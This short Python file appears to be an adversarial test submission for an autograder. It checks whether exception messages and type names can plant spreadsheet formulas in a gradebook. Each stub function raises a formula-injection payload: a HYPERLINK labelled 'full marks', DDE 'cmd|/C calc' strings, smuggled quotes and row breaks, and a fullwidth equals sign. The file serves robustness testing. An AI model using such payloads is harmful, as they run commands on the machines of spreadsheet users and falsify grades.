# file: ex4_effective_lr.py
# tries: to be a formula in the gradebook: messages and type names that begin with = + - @ tab and quotes
# must: no points; no cell of the gradebook begins with such a sign
# max_score: 0
# outcome: crashed


def fail(text):
    print(text)
    raise type(text, (Exception,), {})(text)


def effective_lr(lr, momentum):
    fail('=HYPERLINK("http://127.0.0.1:47117/","full marks")')


def measured_lr(lr, momentum, num_steps, grad=1.0):
    fail("+cmd|' /C calc'!A0")


def steps_to_fraction(momentum, fraction):
    fail("@SUM(1+1)*cmd|' /C calc'!A0\",\"100\r\n-1+1,100,100\n\t=1+1;100")


def matched_lr(plain_lr, momentum):
    fail("-2+3\n=1\n\uff1d1+1")
